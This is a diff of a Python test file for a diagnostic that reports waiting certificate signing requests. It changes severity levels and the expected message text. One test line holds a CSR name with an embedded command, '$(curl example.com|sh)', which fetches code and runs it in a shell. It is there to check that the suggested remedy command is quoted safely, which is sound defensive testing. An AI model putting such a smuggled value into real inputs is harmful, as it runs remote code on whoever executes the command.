@@ -68,12 +68,12 @@ def test_the_remedys_command_is_safe_to_copy(examine: Examine, api: Answers) -> 
     assert "signerctl explain 'csr/$(curl example.com|sh)'" in waiting.waiting(examination).remedy
 
 
-REASONS = {"WaitingForOperator": "error", "WaitingForRequester": "warning", "WaitingForService": "warning"}
+REASONS = {"WaitingForOperator": "error", "WaitingForRequester": "warning", "WaitingForService": "error"}
 
 
 @pytest.mark.parametrize(("reason", "level"), REASONS.items())
 def test_the_last_event_on_the_oldest_csr_is_told(examine: Examine, api: Answers, *, reason: str, level: str) -> None:
-    """Only the operator's own turn is an error. Other programs' Events and earlier ones do not count."""
+    """While the requester must act, the deployment is well. Other programs' Events and earlier ones do not count."""
     examination = examine()
     csrs = [csr(examination, NEWER, 60), csr(examination, OLDER, 3600)]
     prepare(
@@ -86,7 +86,8 @@ def test_the_last_event_on_the_oldest_csr_is_told(examine: Examine, api: Answers
     )
     outcome = waiting.waiting(examination)
     assert outcome.level == level
-    assert outcome.found == f'2 CSRs wait; an Event on "csr-1" says {reason}: "message of {reason}"'
+    of = 'an Event on "csr-1", of "2026-11-27T00:01:00Z", says'
+    assert outcome.found == f'2 CSRs wait; {of} {reason}: "message of {reason}"'
 
 
 def test_a_csr_about_which_the_function_is_silent_is_a_warning(examine: Examine, api: Answers) -> None:
